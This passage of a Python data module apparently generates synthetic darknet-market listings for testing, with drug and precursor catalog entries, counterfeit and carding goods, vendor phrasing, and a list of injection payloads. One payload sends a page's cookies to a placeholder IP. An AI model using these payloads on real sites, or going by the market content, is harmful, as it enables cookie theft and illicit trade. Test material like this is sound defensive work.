       "4aco|4-aco|4homet|4-ho-met|psilacetin", "fr:4-AcO-DMT;es:4-AcO-DMT;de:4-AcO-DMT;nl:4-AcO-DMT", "g", (0.5, 1, 2, 5), 40, "fumarate"),
    _p("3meopcp", "pcp-analogue", "dissociatives", "diss_other", "3-MeO-PCP Powder|PCE HCl|4-MeO-PCP",
       "3meo|3-meo|pce|4meo", "fr:3-MeO-PCP;es:3-MeO-PCP;de:3-MeO-PCP;nl:3-MeO-PCP", "g", (0.5, 1, 2, 5), 45, "HCl"),
    _p("eutylone", "cathinone-rc", "nps", "cath", "Eutylone Crystal|Pentylone Powder|N-Ethylpentylone|4-MEC",
       "eutyl|eutylon|nep|pentylon|bk-ebdb", "fr:eutylone;es:eutilona;de:Eutylon;nl:eutylon", "g", (1, 5, 10, 25), 18, "chunks"),
    _p("ethylphen", "phenidate-rc", "nps", "rc_other", "Ethylphenidate Powder|Isopropylphenidate|4F-MPH Pellets",
       "ep|ethphen|ipph|4fmph", "fr:éthylphénidate;es:etilfenidato;de:Ethylphenidat;nl:ethylfenidaat", "g", (1, 5, 10), 22, "pellets"),
    _p("6apb", "benzofuran-rc", "nps", "rc_other", "6-APB Pellets|5-MAPB Powder|Benzofury",
       "benzofury|6apb|5mapb|5-apb", "fr:6-APB;es:6-APB;de:Benzofury;nl:6-APB", "g", (1, 5, 10), 25, "pellets"),
    _p("masteron", "drostanolone", "doping", "inject", "Masteron Propionate 100|Drostanolone Enanthate 200",
       "mast|masteron|drostanolon|mast e", "fr:masteron;es:masteron;de:Masteron,Drostanolon;nl:masteron", "vials", VIALS, 55, "10ml"),
    _p("anadrol", "oxymetholone", "doping", "orals", "Anadrol 50mg|Oxymetholone 50mg|Anapolon",
       "drol|a-bombs|anapolon|oxymetholon", "fr:anadrol;es:anadrol;de:Anapolon;nl:anadrol", "pills", (50, 100, 200), 1.0, "50 tabs"),
    _p("tbol", "turinabol", "doping", "orals", "Turinabol 10mg|Oral Turinabol|Tbol",
       "tbol|t-bol|turinabol|oral tbol", "fr:turinabol;es:turinabol;de:Turinabol;nl:turinabol", "pills", (50, 100, 200), 0.8, "Jenapharm look"),
    _p("nolva", "anti-estrogen", "doping", "peptides", "Nolvadex 20mg|Anastrozole 1mg|Clomid 50mg|Letrozole 2.5mg",
       "nolva|adex|clomid|letro|pct", "fr:nolvadex,PCT;es:nolvadex,clomid;de:Nolvadex,Arimidex;nl:nolvadex", "pills", (30, 60, 100), 0.6, "PCT"),
    _p("methylamine", "methylamine", "precursors", "precursors", "Methylamine 40% Solution|Methylamine HCl",
       "mam|methylamin|monomethylamine", "fr:méthylamine;es:metilamina;de:Methylamin;nl:methylamine", "L", LITRE, 120, "40% in water"),
    _p("p2np", "p2np", "precursors", "precursors", "P2NP (Phenyl-2-nitropropene)|P2NP Crystals 99%",
       "p2np|phenyl-2-nitropropene|nitropropene", "fr:P2NP;es:P2NP;de:P2NP;nl:P2NP", "kg", KG, 450, "yellow crystals"),
)

# Things sold on drug markets that are not drugs (label not_drug; no substances).
NOT_DRUG: tuple[tuple[str, str, str, float], ...] = (
    # title, group, unit, usd
    ("Fake ID card (EU) - scannable hologram", "ids", "pcs", 150),
    ("UK Driving Licence - novelty, passes UV", "ids", "pcs", 180),
    ("Passport template PSD pack", "ids", "pcs", 40),
    ("Counterfeit 50 EUR notes x10 (UV pass)", "money", "pcs", 120),
    ("Prop money 100 USD bills - grade A", "money", "pcs", 90),
    ("Rolex Submariner replica 1:1", "goods", "pcs", 250),
    ("Louis Vuitton wallet replica", "goods", "pcs", 60),
    ("Stealth shipping guide 2026 (PDF)", "guides", "pcs", 15),
    ("Carding tutorial bundle + cashout methods", "guides", "pcs", 35),
    ("Refund method guide - 40 stores", "guides", "pcs", 25),
    ("OPSEC for vendors - complete guide", "guides", "pcs", 20),
    ("Netflix premium account 12 months", "accounts", "pcs", 8),
    ("Spotify family account lifetime", "accounts", "pcs", 6),
    ("VPN account 1 year (no logs)", "accounts", "pcs", 10),
    ("Drop address service (EU)", "accounts", "pcs", 60),
)

# Every shelf a product can sit on, with the taxonomy label it implies (for market trees).
GROUPS: dict[str, tuple[str, str]] = {
    # group: (parent label, sub label) as market A names them
    "weed": ("Cannabis", "Weed"), "hash": ("Cannabis", "Hash"), "conc": ("Cannabis", "Concentrates"),
    "edibles": ("Cannabis", "Edibles"), "seeds": ("Cannabis", "Seeds"),
    "cocaine": ("Stimulants", "Cocaine"), "speed": ("Stimulants", "Speed"), "meth": ("Stimulants", "Meth"),
    "rxstim": ("Stimulants", "Prescription"), "mdma": ("Ecstasy", "MDMA"), "pills_xtc": ("Ecstasy", "Pills"),
    "lsd": ("Psychedelics", "LSD"), "shrooms": ("Psychedelics", "Mushrooms"), "dmt": ("Psychedelics", "DMT"),
    "2cx": ("Psychedelics", "2C-x"), "psy_other": ("Psychedelics", "Other"),
    "heroin": ("Opioids", "Heroin"), "fent": ("Opioids", "Fentanyl & analogues"), "rxopi": ("Opioids", "Pills"),
    "opium": ("Opioids", "Opium"), "xanax": ("Benzos", "Xanax"), "benzo": ("Benzos", "Pharma benzos"),
    "rcbenzo": ("Benzos", "RC benzos"), "ed": ("Pharmacy", "Erectile dysfunction"), "sleep": ("Pharmacy", "Sleep"),
    "nerve": ("Pharmacy", "Nerve pain"), "ketamine": ("Dissociatives", "Ketamine"), "ghb": ("Dissociatives", "GHB"),
    "diss_other": ("Dissociatives", "Other"), "inject": ("Steroids", "Injectables"), "orals": ("Steroids", "Orals"),
    "peptides": ("Steroids", "Peptides & HGH"), "cath": ("Research chemicals", "Cathinones"),
    "synth": ("Research chemicals", "Cannabinoids"), "rc_other": ("Research chemicals", "Other"),
    "precursors": ("Chemicals", "Precursors"), "solvents": ("Chemicals", "Solvents & oils"),
    "guides": ("Digital goods", "Guides"), "accounts": ("Digital goods", "Accounts"),
    "ids": ("Counterfeits", "IDs & documents"), "money": ("Counterfeits", "Money"), "goods": ("Counterfeits", "Luxury"),
}

# Country: (displayed name, ISO code, language used by vendors there)
COUNTRIES: tuple[tuple[str, str, str], ...] = (
    ("Netherlands", "NL", "nl"), ("Germany", "DE", "de"), ("United Kingdom", "GB", "en"), ("France", "FR", "fr"),
    ("Spain", "ES", "es"), ("Belgium", "BE", "nl"), ("United States", "US", "en"), ("Canada", "CA", "en"),
    ("Australia", "AU", "en"), ("Poland", "PL", "en"), ("Czech Republic", "CZ", "en"), ("Italy", "IT", "en"),
    ("Austria", "AT", "de"), ("Switzerland", "CH", "de"), ("Sweden", "SE", "en"), ("Ireland", "IE", "en"),
    ("Portugal", "PT", "es"), ("India", "IN", "en"), ("China", "CN", "en"), ("Colombia", "CO", "es"),
)

# Ships-to choices: A shows names, B shows codes, C shows names. Each entry is (names, codes).
SHIPS_TO: tuple[tuple[tuple[str, ...], tuple[str, ...]], ...] = (
    (("Worldwide",), ("WW",)),
    (("Europe",), ("EU",)),
    (("European Union", "United Kingdom"), ("EU", "GB")),
    (("Worldwide except USA", "Worldwide except Australia"), ("WW-US", "WW-AU")),
    (("Germany", "Austria", "Switzerland"), ("DE", "AT", "CH")),
    (("United States",), ("US",)),
    (("United States", "Canada"), ("US", "CA")),
    (("United Kingdom",), ("GB",)),
    (("Australia",), ("AU",)),
    (("Netherlands", "Belgium", "Germany"), ("NL", "BE", "DE")),
    (("France", "Belgium", "Switzerland"), ("FR", "BE", "CH")),
    (("Spain", "Portugal"), ("ES", "PT")),
)

HANDLE_PREFIX = ("Green", "Nordic", "Dutch", "Royal", "Silent", "Lucky", "Frosty", "Golden", "Cosmic", "Happy",
                 "Crystal", "Snow", "Candy", "Doctor", "Mister", "Captain", "Pharma", "Euro", "Berlin", "Paris",
                 "Polar", "Shadow", "Ghost", "Tiger", "Panda", "Rabbit", "Wizard", "Alchemy", "Chemist", "King",
                 "Queen", "Street", "Rocket", "Mango", "Cherry", "Lemon", "Sugar", "Iron", "Velvet", "Purple",
                 "Atomic", "Magic", "Lazy", "Mellow", "Wild", "Arctic", "Blue", "Red", "Black", "Silver")
HANDLE_NOUN = ("Doctor", "Garden", "Farm", "Labs", "Supply", "Express", "Direct", "Bros", "Plug", "Connect",
               "Kush", "Haze", "Blaze", "Factory", "Pharmacy", "Store", "Dealer", "Trader", "Rider", "Wolf",
               "Fox", "Bear", "Owl", "Monk", "Pirate", "Chef", "Baron", "Knight", "Dragon", "Falcon",
               "Cartel", "Club", "Market", "Shop", "Corner", "Dispensary", "Apotheke", "Alchemist", "Mule",
               "Courier", "Harbor", "Valley", "Mountain", "Island", "Leaf", "Stone", "Crew", "Family", "Union")
HANDLE_SUFFIX = ("420", "NL", "UK", "DE", "EU", "_official", "Official", "2", "_v2", "Shop", "Team", "24", "777", "X",
                 "_backup", "Reloaded")
LEET = {"a": "4", "e": "3", "i": "1", "o": "0", "s": "5", "t": "7"}

FORUM_NAME_WORDS = ("night", "owl", "tripper", "raver", "psy", "chill", "lurker", "newbie", "vet", "kitty",
                    "moon", "sun", "river", "dust", "echo", "pixel", "ghost", "bee", "frog", "lotus", "nomad",
                    "wanderer", "sailor", "gamer", "punk", "hippie", "doc", "nurse", "chem", "dj", "mc")

# Writing style. An actor keeps one per trait on every site: sometimes the only thing linking accounts.
SIGNOFFS = ("Stay safe & enjoy ✌", "Much love, the team", "Peace!", "Thanks for choosing us.", "Respect the plug 🔌",
            "Questions? PM me.", "Quality over quantity.", "Bless up 🙏", "Happy customers = happy life",
            "No drama, just business.", "Ride safe, pay safe.", "Greetings from the lab 🧪", "Cheers mate!",
            "Your trusted source since 2019.", "Keep it discreet.", "Love & light ☮")
EMOJI = ("", "", "🔥", "💎", "🍀", "❄️", "🚀", "⭐", "🌿", "💊", "⚡")
TITLE_SEPS = (" - ", " | ", " :: ", " ~ ", " // ", " ")
STEALTH = ("Vacuum sealed twice, MBB, inside a DVD case.", "Double vacuum sealed and smell proof.",
           "Professional stealth: looks like a normal business letter.", "Triple layer stealth, no signature needed.",
           "Discreet packaging, return address of a real company.", "Sealed in food-grade mylar, decoy inside.")
SHIP_DAYS = ("We ship Monday to Friday, orders before 2 pm go out the same day.",
             "Shipping 6 days a week.", "Orders are dispatched within 24h (working days).",
             "We post every Tuesday and Thursday.", "Ships within 48 hours, tracking on request.")
REFUND = ("Reship once if lost, 50% after that.", "No refunds without proof. Reship at our discretion.",
          "Full reship for lost parcels with 5+ orders history.", "Lost packages: 100% reship, no questions.",
          "Refund in BTC at the day's rate.")
FE_POLICY = ("No FE unless 100+ orders.", "Escrow only.", "FE for trusted buyers only.", "We accept FE after 10 orders.",
             "Always escrow, always safe.")
ADJ = ("top quality", "best price", "fast delivery", "lab tested", "high purity", "stealth guaranteed",
       "restocked", "new batch", "bulk discount", "free samples for reviewers")

# Script-injection and markup payloads: pages show them as literal text, never as markup.
PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "\"><svg onload=alert(1)>",
    "javascript:alert('xss')",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "{{7*7}} ${7*7}",
    "'; DROP TABLE listings; --",
    "<a href=\"javascript:alert(1)\">click here</a>",
    "</textarea><script>fetch('http://203.0.113.7/?c='+document.cookie)</script>",
    "<b onmouseover=alert(1)>hover me</b>",
)

EXTERNAL_HOSTS = ("http://203.0.113.7/", "http://example.com/", "https://198.51.100.23/mirror",
                  "http://192.0.2.44:8080/status", "https://example.org/pgp")
